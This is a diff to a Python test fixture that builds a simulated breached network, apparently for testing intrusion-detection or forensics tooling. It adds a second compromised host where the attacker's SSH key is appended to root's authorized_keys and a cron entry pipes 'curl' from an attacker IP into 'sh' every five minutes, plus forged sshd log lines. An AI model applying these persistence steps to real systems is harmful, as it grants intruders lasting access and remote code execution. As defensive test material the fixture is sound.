@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import time
+from collections.abc import Iterable
 from datetime import UTC, datetime, timedelta
 
 from tests.support.hosts import SMALL, HostNet, Key, TestHost
@@ -37,9 +38,24 @@ END
 """
 
 
-def plant(net: HostNet, name: str = "web1") -> TestHost:
-    """Add the compromised host; ``db1``, ``mon1`` and ``bastion`` beside it, and the attacker's machine."""
+_SECOND = """
+echo '{attacker} root@attacker' >> root/.ssh/authorized_keys
+echo '*/5 * * * * root curl -s http://203.0.113.66/u | sh' > etc/cron.d/0sync
+cat > var/log/auth.log <<'END'
+{logins}
+END
+"""
+
+
+def plant(net: HostNet, name: str = "web1", *, setup: str = "", second: str = "") -> TestHost:
+    """Add the compromised host; ``db1``, ``mon1`` and ``bastion`` beside it, and the attacker's machine.
+
+    Args:
+        setup: more shell commands for the compromised host.
+        second: another host on which the attacker left a key and a cron entry.
+    """
     attacker, ci, alice = Key(), Key(), Key()
+    more = setup
     setup = _SETUP.format(
         attacker=attacker.public,
         ci=ci.public,
@@ -47,8 +63,11 @@ def plant(net: HostNet, name: str = "web1") -> TestHost:
         implant=IMPLANT,
         logins=_logins(name, attacker.fingerprint, ci.fingerprint, alice.fingerprint),
     )
-    (web,) = net.add(name, setup=SMALL + setup)
-    net.add("db1", "mon1", "bastion", "evil")
+    (web,) = net.add(name, setup=SMALL + setup + more)
+    if second:
+        logins = _rows(second, [(_began() + timedelta(hours=3), "root", ATTACKER_IP, attacker.fingerprint, True)])
+        net.add(second, setup=SMALL + _SECOND.format(attacker=attacker.public, logins=logins))
+    net.add(*(other for other in ("db1", "mon1", "bastion", "evil") if other != second))
     evil = net.hosts["evil"]
     evil.run(f"ip address add {ATTACKER_IP}/32 dev eth0")
     web.run(f"ip route add {ATTACKER_IP}/32 dev eth0")
@@ -66,9 +85,12 @@ def plant(net: HostNet, name: str = "web1") -> TestHost:
     return web
 
 
+def _began() -> datetime:
+    return datetime.now(UTC) - timedelta(hours=20)
+
+
 def _logins(name: str, attacker: str, ci: str, alice: str) -> str:
-    now = datetime.now(UTC)
-    began = now - timedelta(hours=20)
+    began = _began()
     rows = [
         *((began - timedelta(days=day), "deploy", DEPLOY_IP, ci, True) for day in (9, 6, 3)),
         (began - timedelta(days=5), "alice", OFFICE_IP, None, True),
@@ -78,6 +100,11 @@ def _logins(name: str, attacker: str, ci: str, alice: str) -> str:
         (began + timedelta(hours=5), "alice", OFFICE_IP, alice, True),
         (began + timedelta(hours=19), "sysupd", ATTACKER_IP, attacker, True),
     ]
+    return _rows(name, rows)
+
+
+def _rows(name: str, rows: Iterable[tuple[datetime, str, str, str | None, bool]]) -> str:
+    """As sshd writes them: when, who, where from, with which key, whether it was let in."""
     return "\n".join(
         f"{at.isoformat()} {name} sshd[{900 + n}]: {'Accepted' if ok else 'Failed'} "
         f"{'publickey' if key else 'password'} for {account} from {origin} port {40000 + n} ssh2"
